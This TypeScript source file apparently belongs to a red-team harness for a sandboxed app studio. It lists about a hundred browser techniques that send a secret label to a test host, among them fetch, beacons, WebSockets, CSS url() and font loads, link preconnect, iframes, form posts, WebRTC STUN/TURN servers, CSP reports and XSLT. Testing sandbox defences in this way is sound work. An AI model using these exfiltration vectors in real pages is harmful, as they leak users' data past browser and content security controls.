import { type Vector, vector } from "./vector";

// biome-ignore lint/suspicious/noExplicitAny: names that browsers have and TypeScript doesn't know
declare const window: any, document: any, navigator: any, location: any;

const PNG =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** Style declarations that load what they name. */
const STYLES: Record<string, string> = {
  background: "background: url(HTTP)",
  cursor: "cursor: url(HTTP), auto",
  mask: "mask-image: url(HTTP)",
  "image-set": "background-image: image-set('HTTP' 1x)",
  "border-image": "border-image: url(HTTP) 1",
  "list-style": "display: list-item; list-style-image: url(HTTP)",
  content: "content: url(HTTP)",
  "shape-outside": "float: left; shape-outside: url(HTTP)",
  "clip-path": "clip-path: url(HTTP#x)",
  filter: "filter: url(HTTP#x)",
};

/** Link elements that make the browser fetch, or look up, something. */
const LINKS: [row: string, name: string, attributes: string][] = [
  ["X05", "prefetch", `{ rel: "prefetch", href: t.http }`],
  ["X05", "prefetch-https", `{ rel: "prefetch", href: t.https }`],
  ["X05", "preload-script", `{ rel: "preload", as: "script", href: t.http }`],
  ["X05", "preload-image", `{ rel: "preload", as: "image", href: t.http }`],
  ["X05", "preload-fetch", `{ rel: "preload", as: "fetch", crossorigin: "", href: t.http }`],
  ["X05", "preload-font", `{ rel: "preload", as: "font", crossorigin: "", href: t.http }`],
  ["X05", "preload-style", `{ rel: "preload", as: "style", href: t.http }`],
  ["X05", "preload-by-ip", `{ rel: "preload", as: "image", href: t.ip }`],
  ["X05", "modulepreload", `{ rel: "modulepreload", href: t.http + ".js" }`],
  ["X05", "icon", `{ rel: "icon", href: t.http }`],
  ["X05", "manifest", `{ rel: "manifest", href: t.http }`],
  ["X05", "prerender", `{ rel: "prerender", href: t.http }`],
  ["X05", "dictionary", `{ rel: "compression-dictionary", href: t.https }`],
  ["X06", "dns-prefetch", `{ rel: "dns-prefetch", href: "//" + t.host }`],
  ["X06", "preconnect", `{ rel: "preconnect", href: "http://" + t.host }`],
  ["X06", "preconnect-https", `{ rel: "preconnect", href: "https://" + t.host }`],
  ["X06", "preconnect-cors", `{ rel: "preconnect", href: "https://" + t.host, crossorigin: "" }`],
];

/** X01 to X13: ways to send something, each with the secret in the host's name and in the path. */
export const EXFILTRATION: readonly Vector[] = [
  vector("X01", "fetch", (t) => fetch(t.http).then(() => "fetched")),
  vector("X01", "fetch-https", (t) => fetch(t.https).then(() => "fetched")),
  vector("X01", "fetch-by-ip", (t) => fetch(t.ip).then(() => "fetched")),
  vector("X01", "fetch-no-cors", (t) => fetch(t.http, { mode: "no-cors" }).then(() => "fetched")),
  vector("X01", "fetch-post", (t) =>
    fetch(t.http, { method: "POST", mode: "no-cors", body: t.label }).then(() => "sent"),
  ),
  vector("X01", "fetch-keepalive", (t) =>
    fetch(t.http, { keepalive: true, mode: "no-cors" }).then(() => "sent"),
  ),
  vector("X01", "fetch-later", async (t) => {
    window.fetchLater(t.https, { activateAfter: 0 });
    await t.sleep(500);
  }),
  vector(
    "X01",
    "xhr",
    (t) =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open("GET", t.http);
        request.onload = () => resolve("loaded");
        request.onerror = () => reject(new Error("refused"));
        request.send();
      }),
  ),
  vector("X01", "xhr-sync", (t) => {
    const request = new XMLHttpRequest();
    request.open("GET", t.http, false);
    request.send();
    return "loaded";
  }),
  // Its answer only says that the browser took it; what counts is the log.
  vector("X01", "beacon", (t) => void navigator.sendBeacon(t.http, t.label)),
  vector("X01", "fetch-original", (t) => fetch.call(window, t.http).then(() => "fetched")),
  vector("X02", "socket", (t) => void new WebSocket(t.http.replace("http", "ws"))),
  vector("X02", "socket-secure", (t) => void new WebSocket(t.https.replace("http", "ws"))),
  vector("X02", "socket-by-ip", (t) => void new WebSocket(t.ip.replace("http", "ws"))),
  vector("X02", "event-source", (t) => void new EventSource(t.http)),
  vector("X02", "web-transport", (t) => void new window.WebTransport(t.https)),
  vector("X02", "socket-stream", (t) => new window.WebSocketStream(t.http.replace("http", "ws")).opened),
  vector("X03", "image", (t) => t.el("img", { src: t.http }) && t.sleep(200)),
  vector("X03", "image-by-ip", (t) => t.el("img", { src: t.ip }) && t.sleep(200)),
  vector("X03", "image-object", async (t) => {
    new Image().src = t.http;
    await t.sleep(200);
  }),
  vector("X03", "srcset", (t) => t.el("img", { srcset: `${t.http} 1x` }) && t.sleep(200)),
  vector("X03", "picture", (t) => {
    const picture = t.el("picture");
    t.el("source", { srcset: t.http }, picture);
    t.el("img", {}, picture);
    return t.sleep(200);
  }),
  ...[
    ["svg-image", `<svg><image href="HTTP"/></svg>`],
    [
      "svg-fe-image",
      `<svg><filter id="f"><feImage href="HTTP"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    ],
    ["svg-use", `<svg><use href="HTTP#x"/></svg>`],
    ["video-poster", `<video poster="HTTP"></video>`],
    ["video", `<video src="HTTP" preload="auto"></video>`],
    ["audio", `<audio src="HTTP" preload="auto"></audio>`],
    ["track", `<video src="data:video/mp4;base64,AAAA"><track default src="HTTP"></video>`],
    ["input-image", `<input type="image" src="HTTP">`],
    ["object", `<object data="HTTP"></object>`],
    ["embed", `<embed src="HTTP">`],
    ["body-background", `<table background="HTTP"><tr><td>x</table>`],
    ["inner-html-image", `<img src="HTTP">`],
    ["base", `<base href="HTTP"><img src="relative">`],
  ].map(([name, markup]) => ({
    ...vector("X03", name as string, () => 0),
    code: `(t) => {
      t.el("div").innerHTML = ${JSON.stringify(markup)}.replaceAll("HTTP", t.http);
      return t.sleep(300);
    }`,
  })),
  ...Object.entries(STYLES).map(([name, declarations]) => ({
    ...vector("X03", `css-${name}`, () => 0),
    code: `(t) => {
      t.el("p", { style: ${JSON.stringify(declarations)}.replaceAll("HTTP", t.http) }).textContent = "x";
      return t.sleep(300);
    }`,
  })),
  vector("X04", "import", (t) => t.css(`@import url("${t.http}.css");`)),
  vector("X04", "font", (t) => {
    t.css(`@font-face { font-family: "${t.label}"; src: url("${t.http}"); }`);
    t.el("p", { style: `font-family: "${t.label}"` }).textContent = "text";
    return t.sleep(300);
  }),
  vector("X04", "font-object", (t) => new FontFace("evil", `url("${t.http}")`).load().then(() => 0)),
  vector("X04", "attribute-selector", (t) => {
    t.css(`input[value^="s"] { background: url("${t.http}"); }`);
    t.el("input", { value: "secret" });
    return t.sleep(300);
  }),
  vector("X04", "adopted-sheet", async (t) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`p.evil { background: url("${t.http}"); }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    t.el("p", { class: "evil" }).textContent = "x";
    await t.sleep(300);
  }),
  vector("X04", "inserted-rule", async (t) => {
    const style = t.el("style");
    style.sheet.insertRule(`i.${t.label.replaceAll(".", "-")} { background: url("${t.http}"); }`);
    t.el("i", { class: t.label }).textContent = "x";
    await t.sleep(300);
  }),
  vector("X04", "custom-property", (t) => {
    t.el("p", { style: `--evil: url(${t.http}); background-image: var(--evil)` }).textContent = "x";
    return t.sleep(300);
  }),
  vector(
    "X04",
    "sheet-link",
    (t) => t.el("link", { rel: "stylesheet", href: `${t.http}.css` }) && t.sleep(300),
  ),
  vector(
    "X04",
    "print-sheet",
    (t) => t.el("link", { rel: "stylesheet", media: "print", href: `${t.http}.css` }) && t.sleep(300),
  ),
  ...LINKS.map(([row, name, attributes]) => ({
    ...vector(row, name, () => 0),
    code: `(t) => t.el("link", ${attributes}, document.head) && t.sleep(300)`,
  })),
  ...["prefetch", "prerender"].map((action) => ({
    ...vector("X05", `speculation-${action}`, () => 0),
    code: `(t) => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({ ${action}: [{ source: "list", urls: [t.https], eagerness: "immediate" }] });
      document.head.append(rules);
      return t.sleep(600);
    }`,
  })),
  vector(
    "X07",
    "href",
    (t) => {
      location.href = t.http;
    },
    { kills: true },
  ),
  vector(
    "X07",
    "href-by-ip",
    (t) => {
      location.href = t.ip;
    },
    { kills: true },
  ),
  vector("X07", "replace", (t) => location.replace(t.https), { kills: true }),
  vector(
    "X07",
    "meta-refresh",
    (t) => {
      t.el("meta", { "http-equiv": "refresh", content: `0;url=${t.http}` }, document.head);
    },
    { kills: true },
  ),
  vector(
    "X07",
    "anchor",
    (t) => {
      const link = t.el("a", { href: t.http });
      link.addEventListener("click", (event: Event) => event.stopPropagation());
      link.click();
    },
    { kills: true, gesture: true },
  ),
  vector(
    "X07",
    "navigation",
    (t) => {
      window.navigation.navigate(t.http);
    },
    { kills: true },
  ),
  vector(
    "X07",
    "open-self",
    (t) => {
      window.open(t.http, "_self");
    },
    { kills: true, gesture: true },
  ),
  vector(
    "X07",
    "document-open",
    (t) => {
      document.open();
      document.write(`<img src="${t.http}">`);
      document.close();
    },
    { kills: true },
  ),
  vector(
    "X07",
    "blob-page",
    (t) => {
      const page = `<script>fetch("${t.http}")</script><img src="${t.http}"><link rel="preconnect" href="http://${t.host}">`;
      location.href = URL.createObjectURL(new Blob([page], { type: "text/html" }));
    },
    { kills: true },
  ),
  vector(
    "X07",
    "on-leave",
    (t) => {
      window.addEventListener("pagehide", () => navigator.sendBeacon(t.http, t.label));
      location.reload();
    },
    { kills: true },
  ),
  vector("X08", "fetch", (t) => fetch(`${t.studio}/api/health?red-team`).then(() => "fetched")),
  vector("X08", "fetch-no-cors", (t) =>
    fetch(`${t.studio}/api/health?red-team`, { mode: "no-cors" }).then(() => "fetched"),
  ),
  vector("X08", "image", (t) => t.el("img", { src: `${t.studio}/favicon.svg?red-team` }) && t.sleep(200)),
  vector("X08", "frame", (t) => t.el("iframe", { src: `${t.studio}/?red-team` }) && t.sleep(300)),
  vector(
    "X08",
    "navigation",
    (t) => {
      location.href = `${t.studio}/api/apps?red-team`;
    },
    { kills: true },
  ),
  vector(
    "X08",
    "post-form",
    (t) => {
      const form = t.el("form", { method: "post", action: `${t.studio}/api/apps?red-team` });
      window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
      form.requestSubmit();
    },
    { kills: true },
  ),
  vector("X09", "frame", (t) => t.el("iframe", { src: t.http }) && t.sleep(300)),
  vector("X09", "frame-by-ip", (t) => t.el("iframe", { src: t.ip }) && t.sleep(300)),
  vector("X09", "frame-renamed", async (t) => {
    const frame = t.el("iframe", { name: "evil" });
    frame.src = t.https;
    await t.sleep(300);
  }),
  vector("X09", "frame-navigated", async (t) => {
    t.el("iframe").contentWindow.location = t.http;
    await t.sleep(300);
  }),
  vector("X09", "srcdoc-image", (t) => t.el("iframe", { srcdoc: `<img src="${t.http}">` }) && t.sleep(300)),
  vector(
    "X09",
    "srcdoc-refresh",
    (t) =>
      t.el("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${t.http}">` }) && t.sleep(500),
  ),
  vector(
    "X09",
    "srcdoc-preconnect",
    (t) => t.el("iframe", { srcdoc: `<link rel="preconnect" href="http://${t.host}">` }) && t.sleep(300),
  ),
  vector(
    "X09",
    "data",
    (t) => t.el("iframe", { src: `data:text/html,<img src="${t.http}">` }) && t.sleep(300),
  ),
  vector("X09", "blob", (t) => {
    const src = URL.createObjectURL(new Blob([`<img src="${t.http}">`], { type: "text/html" }));
    t.el("iframe", { src });
    return t.sleep(300);
  }),
  vector("X09", "link-into-frame", async (t) => {
    t.el("iframe", { name: "inner-target" });
    const link = t.el("a", { href: t.http, target: "inner-target" });
    link.addEventListener("click", (event: Event) => event.stopPropagation());
    link.click();
    await t.sleep(300);
  }),
  vector("X09", "form-into-frame", async (t) => {
    t.el("iframe", { name: "form-target" });
    const form = t.el("form", { action: t.http, target: "form-target" });
    window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), {
      capture: true,
      once: true,
    });
    form.requestSubmit();
    await t.sleep(300);
  }),
  vector("X09", "fenced-frame", async (t) => {
    t.el("fencedframe").config = new window.FencedFrameConfig(t.https);
    await t.sleep(300);
  }),
  ...["get", "post"].map((method) => ({
    ...vector("X10", `form-${method}`, () => 0, { kills: true }),
    code: `(t) => {
      const form = t.el("form", { method: "${method}", action: t.http });
      t.el("input", { name: "secret", value: t.label }, form);
      window.addEventListener("submit", (event) => event.stopImmediatePropagation(), true);
      form.requestSubmit();
    }`,
  })),
  vector(
    "X10",
    "native-submit",
    (t) => {
      Object.getPrototypeOf(t.el("form")).submit.call(t.el("form", { action: t.http }));
    },
    { kills: true },
  ),
  vector(
    "X10",
    "image-button",
    (t) => {
      const form = t.el("form", { action: t.http });
      window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
      t.el("input", { type: "image", src: "PICTURE" }, form).click();
    },
    { kills: true },
  ),
  vector(
    "X10",
    "form-action-attribute",
    (t) => {
      const button = t.el("button", { formaction: t.http }, t.el("form"));
      window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
      button.click();
    },
    { kills: true },
  ),
  ...[
    ["stun", "[{ urls: `stun:${t.host}:3478` }]"],
    ["stun-by-ip", "[{ urls: 'stun:203.0.113.7:3478' }]"],
    ["turn-udp", "[{ urls: `turn:${t.host}:3478`, username: t.label, credential: 'x' }]"],
    ["turn-tcp", "[{ urls: `turn:${t.host}:3478?transport=tcp`, username: t.label, credential: 'x' }]"],
    ["turn-tls", "[{ urls: `turns:${t.host}:443?transport=tcp`, username: t.label, credential: 'x' }]"],
  ].map(([name, servers]) => ({
    ...vector("X11", name as string, () => 0),
    code: `async (t) => {
      const Peer = window.RTCPeerConnection ?? window.webkitRTCPeerConnection;
      const peer = new Peer({ iceServers: ${servers} });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await t.sleep(900);
    }`,
  })),
  vector("X11", "restored-name", async (t) => {
    delete window.RTCPeerConnection;
    Object.defineProperty(window, "RTCPeerConnection", { value: window.RTCRtpSender, configurable: true });
    await t.sleep(1);
    return "defined anew";
  }),
  vector("X11", "nested-frame", (t) =>
    t.nested(
      "inline",
      `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${t.host}:3478" }] });
       p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));
       parent.postMessage("ran ${t.label}", "*")`,
    ),
  ),
  vector(
    "X12",
    "ping",
    (t) => {
      const link = t.el("a", { href: "#x", ping: t.http });
      link.click();
      return t.sleep(300);
    },
    { gesture: true },
  ),
  vector(
    "X12",
    "download-link",
    (t) => {
      const link = t.el("a", { href: t.http, download: "x" });
      link.addEventListener("click", (event: Event) => event.stopPropagation());
      link.click();
      return t.sleep(300);
    },
    { kills: true, gesture: true },
  ),
  vector(
    "X12",
    "attribution-source",
    (t) => t.el("img", { attributionsrc: t.https, src: "data:," }) && t.sleep(300),
  ),
  vector("X12", "report-uri-meta", async (t) => {
    const content = `img-src 'none'; report-uri ${t.http}`;
    t.el("meta", { "http-equiv": "Content-Security-Policy", content }, document.head);
    t.el("img", { src: "/refused" });
    await t.sleep(300);
  }),
  vector(
    "X12",
    "frame-report",
    (t) => t.el("iframe", { csp: `img-src 'none'; report-uri ${t.http}`, src: t.http }) && t.sleep(300),
  ),
  vector("X12", "xslt", (t) => {
    const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><a><xsl:copy-of select="document('${t.http}')"/></a></xsl:template></xsl:stylesheet>`;
    const parse = (text: string) => new DOMParser().parseFromString(text, "text/xml");
    const processor = new window.XSLTProcessor();
    processor.importStylesheet(parse(sheet));
    processor.transformToFragment(parse("<a/>"), document);
  }),
  vector(
    "X13",
    "mailto",
    (t) => {
      location.href = `mailto:secret@${t.host}`;
    },
    { kills: true, gesture: true },
  ),
  vector(
    "X13",
    "own-scheme",
    (t) => {
      location.href = `web+cumulet://${t.host}/secret`;
    },
    { kills: true, gesture: true },
  ),
  vector(
    "X13",
    "protocol-handler",
    (t) => {
      navigator.registerProtocolHandler("web+evil", `${t.https}?%s`);
      return "registered";
    },
    { gesture: true },
  ),
].map((entry) => ({ ...entry, code: entry.code.replace("PICTURE", PNG) }));
